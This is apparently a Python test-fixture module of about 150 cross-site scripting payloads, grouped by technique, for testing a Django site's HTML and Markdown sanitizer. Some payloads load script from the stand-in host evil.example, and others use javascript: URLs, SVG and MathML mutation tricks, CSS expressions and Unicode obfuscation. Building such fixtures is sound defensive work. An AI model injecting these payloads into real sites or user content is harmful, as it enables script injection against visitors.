"""Hostile inputs for tests/test_xss.py: what an editor, an imported Jekyll file or a reader's search could send.

Grouped by technique (`GROUPS`; a payload is named `group-number` in failures); `PAYLOADS` is the flat list.
No payload holds a raw NUL (PostgreSQL text cannot store one, and Django's forms refuse it); `&#0;` and `%00`
stand in for it. A few hold other C0 control characters, which the admin's text inputs do accept.
"""

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/xss src=//evil.example/x.js></script>",
    "<script\nsrc=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)//<</script>/script>",
    "<script>alert(1)//",
    "<script>/*</script><script>*/alert(1)</script>",
    '<SCRIPT a=">" SRC="//evil.example/x.js"></SCRIPT>',
    '<script type="application/ld+json">{"@type":"Article"}</script><script>alert(1)</script>',
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\t=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<body onload=alert(1)>",
    "<div/onmouseover='alert(1)'>x</div>",
    '<a href="https://example.com/" onmouseover=alert(1)>x</a>',
    "<strong onmouseover=alert(1)>allowed tag</strong>",
    "<h2 id=x tabindex=1 onfocus=alert(1)>heading</h2>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<x onclick=alert(1)>custom element</x>",
    "<table><tr><td onmouseover=alert(1)>cell</td></tr></table>",
    "| a |\n|---|\n| <span onmouseover=alert(1)>b</span> |",
    '<img src=x onerror="alert(1)"//',
]

DANGEROUS_URLS = [
    "<a href=javascript:alert(1)>x</a>",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058'
    'alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="jav\nascript:alert(1)">x</a>',
    '<a href="jav\rascript:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">control character</a>',
    '<a href="&#0;javascript:alert(1)">x</a>',
    '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">x</a>',
    '<a href="javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>">polyglot</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<img srcset="javascript:alert(1) 1x, https://example.com/a.png 2x">',
]

MARKDOWN_LINKS = [
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](java%0Ascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    '[x](https://example.com/ "title\\" onmouseover=\\"alert(1)")',
    "[<script>alert(1)</script>](https://example.com/)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x](https://example.com/a.png" onerror="alert(1))',
    '![x" onerror="alert(1)](https://example.com/a.png)',
    "![<img src=x onerror=alert(1)>](https://example.com/a.png)",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<https://example.com/" onmouseover="alert(1)>',
    "本文[^1]\n\n[^1]: <script>alert(1)</script>",
    "## &lt;script&gt;alert(1)&lt;/script&gt;",
    "**&lt;img src=x onerror=alert(1)&gt;**",
    '```"><script>alert(1)</script>\ncode\n```',
    '| a |\n|:-:|\n| <td style="background:url(javascript:alert(1))">b |',
]

SVG = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1)></script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>",
    "<svg><a><set attributeName=href to=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>click</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
]

MATHML_AND_MUTATION = [
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;'
    'onerror=alert(1)&gt;">',
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<select><template><style><!--</style><img src=x onerror=alert(1)>--></style></template></select>",
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    '<style><img title="</style><img src=x onerror=alert(1)>">',
    '<a title="</a><img src=x onerror=alert(1)>">x</a>',
]

COMMENTS_AND_BROKEN_MARKUP = [
    "<!--<script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![if !IE]><script>alert(1)</script><![endif]>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    '<? foo="><script>alert(1)</script>">',
    "<img src=x onerror=alert(1)",
    '<img """><script>alert(1)</script>">',
    "--><!--",
    "\"'></>",
]

DANGEROUS_ELEMENTS = [
    "<noscript><img src=x onerror=alert(1)></noscript>",
    "<template><script>alert(1)</script></template>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta charset="UTF-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<link rel=import href="data:text/html,<script>alert(1)</script>">',
    "<video poster=javascript:alert(1)></video>",
]

STYLES = [
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<p style="x:expr/**/ession(alert(1))">x</p>',
    '<p style="background:\\75 rl(javascript:alert(1))">css escape</p>',
    '<p style="-moz-binding:url(//evil.example/xss.xml#x)">x</p>',
    '<td style="text-align:center;background:url(javascript:alert(1))">x</td>',
    '<style>body{background:url("javascript:alert(1)")}</style>',
]

ATTRIBUTE_BREAKOUTS = [
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"/><svg onload=alert(1)>',
    'x" style="background:url(javascript:alert(1))',
    "&quot; onmouseover=&quot;alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "{{ request.user }}{% debug %}",
]

JSON_LD_BREAKOUTS = [
    "</script><script>alert(1)</script>",
    "</SCRIPT><script>alert(1)</script>",
    '"}</script><script>alert(1)</script>',
    "<!--<script>",
    "<!--<script></script><script>alert(1)</script>",
    "行区切り\u2028と段落区切り\u2029</script>",
]

UNICODE_TRICKS = [
    "＜script＞alert(1)＜/script＞",
    "﹤script﹥alert(1)﹤/script﹥",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    '<a href="\u200bjavascript:alert(1)">x</a>',
    '<a href="ｊａｖａｓｃｒｉｐｔ:alert(1)">x</a>',
    '<a href="\u202ejavascript:alert(1)">x</a>',
    "\u202e>tpircs/<)1(trela>tpircs<",
    "<scri\u0301pt>alert(1)</scri\u0301pt>",
    "\ufeff<script>alert(1)</script>",
    "「<img src=x onerror=alert(1)>」を読む",
    "😀<svg onload=alert(1)>😀",
    "vertical\x0btab\x1b<script>alert(1)</script>",
]

GROUPS = {
    "script": SCRIPT_TAGS,
    "handler": EVENT_HANDLERS,
    "url": DANGEROUS_URLS,
    "markdown": MARKDOWN_LINKS,
    "svg": SVG,
    "mathml": MATHML_AND_MUTATION,
    "broken": COMMENTS_AND_BROKEN_MARKUP,
    "element": DANGEROUS_ELEMENTS,
    "style": STYLES,
    "breakout": ATTRIBUTE_BREAKOUTS,
    "jsonld": JSON_LD_BREAKOUTS,
    "unicode": UNICODE_TRICKS,
}
PAYLOADS = [payload for payloads in GROUPS.values() for payload in payloads]
